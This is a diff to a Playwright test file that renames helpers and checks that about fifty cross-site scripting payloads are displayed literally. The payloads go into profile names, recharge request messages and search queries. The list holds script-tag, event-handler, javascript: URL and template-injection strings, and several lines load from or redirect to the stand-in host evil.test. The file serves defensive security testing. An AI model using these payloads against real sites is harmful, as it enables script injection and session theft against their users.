@@ -1,68 +1,68 @@
 import type { BrowserContext, Page } from '@playwright/test';
-import { type Account, ask, demand, registerByApi, signInByApi } from './api.ts';
+import { callApi, callApiOrThrow, registerByApi, type SignedInAccount, signInByApi } from './api-client.ts';
 import type { Product } from './product.ts';
-import { expect, keep, nobody, test } from './story.ts';
+import { expect, signedOutState, storeSession, test } from './scenario.ts';
 
 /** Where a script that ran would leave its mark. */
-const mark = 'ran=1';
+const executionMark = 'ran=1';
 /** Each is at most as long as a name may be, and would run somewhere: as HTML, as an attribute, as an address, as a template. */
 const payloads = [
-  `<script>${mark}</script>`,
-  `</script><script>${mark}</script>`,
-  `<SCRIPT>${mark}</SCRIPT >`,
+  `<script>${executionMark}</script>`,
+  `</script><script>${executionMark}</script>`,
+  `<SCRIPT>${executionMark}</SCRIPT >`,
   `<script src=//evil.test/x.js></script>`,
-  `<img src=x onerror=${mark}>`,
-  `<img/src=x/onerror=${mark}>`,
-  `"><img src=x onerror=${mark}>`,
-  `'><img src=x onerror=${mark}>`,
-  `<svg onload=${mark}>`,
-  `<svg/onload=${mark}//`,
-  `<svg><script>${mark}</script></svg>`,
-  `<svg><animate onbegin=${mark} attributeName=x>`,
-  `<svg><a xlink:href=javascript:${mark}>x</a></svg>`,
-  `<body onload=${mark}>`,
-  `<body onpageshow=${mark}>`,
-  `<iframe src=javascript:${mark}>`,
-  `<iframe srcdoc="<script>${mark}</script>">`,
-  `<object data=javascript:${mark}>`,
-  `<embed src=javascript:${mark}>`,
-  `<a href=javascript:${mark}>x</a>`,
-  `<form action=javascript:${mark}><button>x`,
-  `<input autofocus onfocus=${mark}>`,
-  `<select autofocus onfocus=${mark}>`,
-  `<textarea autofocus onfocus=${mark}>`,
-  `<details open ontoggle=${mark}>`,
-  `<video src=x onerror=${mark}>`,
-  `<audio src=x onerror=${mark}>`,
-  `<video><source onerror=${mark}></video>`,
-  `<marquee onstart=${mark}>`,
-  `<math href=javascript:${mark}>x</math>`,
+  `<img src=x onerror=${executionMark}>`,
+  `<img/src=x/onerror=${executionMark}>`,
+  `"><img src=x onerror=${executionMark}>`,
+  `'><img src=x onerror=${executionMark}>`,
+  `<svg onload=${executionMark}>`,
+  `<svg/onload=${executionMark}//`,
+  `<svg><script>${executionMark}</script></svg>`,
+  `<svg><animate onbegin=${executionMark} attributeName=x>`,
+  `<svg><a xlink:href=javascript:${executionMark}>x</a></svg>`,
+  `<body onload=${executionMark}>`,
+  `<body onpageshow=${executionMark}>`,
+  `<iframe src=javascript:${executionMark}>`,
+  `<iframe srcdoc="<script>${executionMark}</script>">`,
+  `<object data=javascript:${executionMark}>`,
+  `<embed src=javascript:${executionMark}>`,
+  `<a href=javascript:${executionMark}>x</a>`,
+  `<form action=javascript:${executionMark}><button>x`,
+  `<input autofocus onfocus=${executionMark}>`,
+  `<select autofocus onfocus=${executionMark}>`,
+  `<textarea autofocus onfocus=${executionMark}>`,
+  `<details open ontoggle=${executionMark}>`,
+  `<video src=x onerror=${executionMark}>`,
+  `<audio src=x onerror=${executionMark}>`,
+  `<video><source onerror=${executionMark}></video>`,
+  `<marquee onstart=${executionMark}>`,
+  `<math href=javascript:${executionMark}>x</math>`,
   `<style>@import '//evil.test/x.css'</style>`,
   `<link rel=stylesheet href=//evil.test/x.css>`,
   `<meta http-equiv=refresh content=0;url=//evil.test>`,
   `<base href=//evil.test/>`,
-  `<template><script>${mark}</script></template>`,
-  `<noscript><p title="</noscript><img src=x onerror=${mark}>`,
-  `<!--><img src=x onerror=${mark}>-->`,
-  `<![CDATA[<script>${mark}</script>]]>`,
-  `javascript:${mark}`,
-  `data:text/html,<script>${mark}</script>`,
-  `" autofocus onfocus=${mark} x="`,
-  `' onmouseover=${mark} style='position:fixed;inset:0`,
-  `\`-${mark}-\``,
-  `\${${mark}}`,
-  `{{constructor.constructor('${mark}')()}}`,
+  `<template><script>${executionMark}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${executionMark}>`,
+  `<!--><img src=x onerror=${executionMark}>-->`,
+  `<![CDATA[<script>${executionMark}</script>]]>`,
+  `javascript:${executionMark}`,
+  `data:text/html,<script>${executionMark}</script>`,
+  `" autofocus onfocus=${executionMark} x="`,
+  `' onmouseover=${executionMark} style='position:fixed;inset:0`,
+  `\`-${executionMark}-\``,
+  `\${${executionMark}}`,
+  `{{constructor.constructor('${executionMark}')()}}`,
   `{{count}} $t(common.ok) {{- name}}`,
-  `<%= ${mark} %>`,
-  `&lt;script&gt;${mark}&lt;/script&gt;`,
-  `&#60;img src=x onerror=${mark}&#62;`,
-  `%3Cscript%3E${mark}%3C/script%3E`,
+  `<%= ${executionMark} %>`,
+  `&lt;script&gt;${executionMark}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${executionMark}&#62;`,
+  `%3Cscript%3E${executionMark}%3C/script%3E`,
 ] as const;
 
 /** A player may ask its agent for so much in ten minutes. */
-const requestsAtOnce = 20;
+const concurrentRequests = 20;
 
-const profileOf = ({ user: { username, email } }: Account) => ({
+const profileOf = ({ user: { username, email } }: SignedInAccount) => ({
   firstName: 'Hostile',
   lastName: 'Texts',
   username,
@@ -72,11 +72,11 @@ const profileOf = ({ user: { username, email } }: Account) => ({
   currency: 'USD',
 });
 
-const changeProfile = (product: Product, { token }: Account, body: object) =>
-  ask<{ user: Account['user'] }>(product, 'PUT /user/profile', { token, body });
+const changeProfile = (product: Product, { token }: SignedInAccount, body: object) =>
+  callApi<{ user: SignedInAccount['user'] }>(product, 'PUT /user/profile', { token, body });
 
 /** Whatever any page of the browser does that a text must not: a dialog, a mark, a foreign address. */
-function watch(context: BrowserContext): string[] {
+function collectScriptEffects(context: BrowserContext): string[] {
   const effects: string[] = [];
   context.on('dialog', (dialog) => {
     effects.push(`dialog ${dialog.message()}`);
@@ -98,10 +98,10 @@ test('there are fifty script payloads', () => {
 });
 
 test.describe('each script payload', () => {
-  test.use({ who: 'player' });
+  test.use({ actor: 'player' });
 
   test('as a name stands on every page as it was typed', async ({ page, context, product, account }) => {
-    const effects = watch(context);
+    const effects = collectScriptEffects(context);
     await page.goto('/dashboard');
     // Another tab, from which this one hears of each change.
     const other = await context.newPage();
@@ -110,7 +110,7 @@ test.describe('each script payload', () => {
       const names = { firstName: payload, lastName: payload };
       const { status, body } = await changeProfile(product, account, { ...profileOf(account), ...names });
       expect(status, payload).toBe(200);
-      await keep(other, { ...account, user: body.data.user });
+      await storeSession(other, { ...account, user: body.data.user });
       await expect(page.getByRole('heading', { level: 1 })).toHaveText(`Welcome back, ${payload}!`);
       await expect(page.getByRole('main').getByText(`${payload} ${payload}`).first()).toBeVisible();
       await expectNothingRan(page, effects);
@@ -138,21 +138,21 @@ test.describe('each script payload', () => {
     account,
     browser,
   }) => {
-    const effects = watch(context);
-    const agent = await signInByApi(product, product.signIn('agent'));
-    const office = await browser.newContext({ storageState: nobody });
-    const officeEffects = watch(office);
+    const effects = collectScriptEffects(context);
+    const agent = await signInByApi(product, product.credentialsOf('agent'));
+    const office = await browser.newContext({ storageState: signedOutState });
+    const officeEffects = collectScriptEffects(office);
     const desk = await office.newPage();
     await desk.goto('/terms');
-    await keep(desk, agent);
+    await storeSession(desk, agent);
     let asking = account;
     await page.goto('/terms');
     for (const [place, message] of payloads.entries()) {
-      if (place > 0 && place % requestsAtOnce === 0) {
+      if (place > 0 && place % concurrentRequests === 0) {
         asking = await registerByApi(product);
-        await keep(page, asking);
+        await storeSession(page, asking);
       }
-      const { id } = await demand<{ id: string }>(product, 'POST /fortune-panda-user/requests', {
+      const { id } = await callApiOrThrow<{ id: string }>(product, 'POST /fortune-panda-user/requests', {
         token: asking.token,
         body: { kind: 'recharge', amount: 2_000, message },
       });
@@ -161,7 +161,7 @@ test.describe('each script payload', () => {
         await expect(desk.getByRole('row').filter({ hasText: message })).toHaveCount(1);
         await expectNothingRan(desk, officeEffects);
       }
-      await demand(product, `POST /fortune-panda/requests/${id}/decline`, {
+      await callApiOrThrow(product, `POST /fortune-panda/requests/${id}/decline`, {
         token: agent.token,
         body: { reason: message },
       });
@@ -178,7 +178,7 @@ test.describe('each script payload', () => {
   });
 
   test('as a search in the address is a search', async ({ page, context }) => {
-    const effects = watch(context);
+    const effects = collectScriptEffects(context);
     for (const payload of payloads.slice(0, 10)) {
       await page.goto(`/games?${new URLSearchParams({ q: payload })}`);
       await expect(page.getByRole('main').getByText(payload).first()).toBeVisible();
